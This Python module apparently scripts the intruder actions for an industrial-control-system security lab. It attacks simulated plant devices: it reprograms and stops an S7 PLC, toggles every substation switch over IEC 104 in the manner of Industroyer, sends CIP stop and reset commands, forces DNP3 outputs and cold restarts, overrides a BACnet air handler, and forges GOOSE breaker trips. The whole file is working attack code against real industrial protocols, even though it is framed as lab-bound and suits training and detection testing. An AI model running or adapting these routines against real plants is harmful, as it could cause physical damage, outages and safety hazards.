"""What the intruders of the demo do to S7, EtherNet/IP, IEC 104, DNP3, GOOSE, BACnet. Bounded, inside the lab only."""

from __future__ import annotations

import contextlib
from dataclasses import replace

import c104
import opendnp3 as dnp3  # type: ignore[import-untyped]  # bindings without types
from bacpypes3 import apdu as pdus  # type: ignore[import-untyped]  # a stack without types
from snap7.client import Client
from snap7.error import S7Error
from snap7.type import Block

from compose.plant import cip_work
from compose.plant.addresses import ip, mac
from compose.plant.bacnet_device import client
from compose.plant.cip_work import Ask
from compose.plant.dnp3_master import Master
from compose.plant.goose import TRIP, breaker, counters, inject
from compose.plant.iec104_station import Station, work
from compose.plant.lab import Lab
from compose.plant.s7_device import PG, block, work_as

_SWITCHES = (4002, 4003, 4004, 4005, 4007, 4008)


def _program(client: Client) -> None:
    client.full_upload(Block.DB, 1)
    client.download(block(0x0A, 2, bytes(228)), 2)
    with contextlib.suppress(S7Error, RuntimeError):
        client.plc_stop()


def reprogram_filling_line(lab: Lab) -> None:
    """A programmer session from the laptop: a block read out, a block loaded, the controller stopped."""
    work_as(lab, "vend", _program, PG, server="plc3")


def _sweep(station: Station) -> None:
    station.connection.interrogation(common_address=1)
    for address in _SWITCHES:
        point = station.point(address, c104.Type.C_SC_NA_1)
        for on in (True, False, True):
            station.order(point, c104.SingleCmd(on=on))


def sweep_substation(lab: Lab) -> None:
    """A second master interrogates and commands every switch, on and off, as Industroyer did."""
    lab["vend"].call(lambda: work("rtu", _sweep))


def stop_packing_line(lab: Lab) -> None:
    """Stop and start services on the controller, then a reset."""
    questions = [
        Ask(cip_work.STOP, cip_work.CONTROLLER),
        Ask(cip_work.START, cip_work.CONTROLLER),
        Ask(cip_work.RESET, cip_work.IDENTITY, data=b"\x00"),
    ]
    lab["att"].call(cip_work.ask_all, "plc4", questions)


def command_pump_station(lab: Lab) -> None:
    """A stranger's master: unsolicited responses off, outputs commanded, a cold restart."""
    master = lab["att"].call(Master, ip("pump"))
    try:
        lab["att"].call(master.idle, 0.7)
        latch = dnp3.ControlRelayOutputBlock(dnp3.OperationType.LATCH_ON)
        for index in (1, 2):
            lab["att"].call(master.ask, "DirectOperate", latch, index)
        lab["att"].call(master.perform, dnp3.FunctionCode.COLD_RESTART)
    finally:
        lab["att"].call(master.close)


async def _override() -> None:
    async with client("att", 3999) as station:
        await station.write("ahu", "analog-output,1", "present-value", 100.0, 2)
        await station.ask("ahu", pdus.ReinitializeDeviceRequest(reinitializedStateOfDevice="coldstart"))


def override_air_handling(lab: Lab) -> None:
    """An output held at a priority above the operators', then a cold start."""
    lab["att"].run(_override())


def trip_bay(lab: Lab) -> None:
    """A trip in the relay's name with a state far ahead, from the stranger's own interface."""
    forged = [counters(900, 0), counters(900, 1), counters(900, 2)]
    inject(lab, "att", replace(TRIP, src_mac=mac("att")), breaker(False, True), forged)
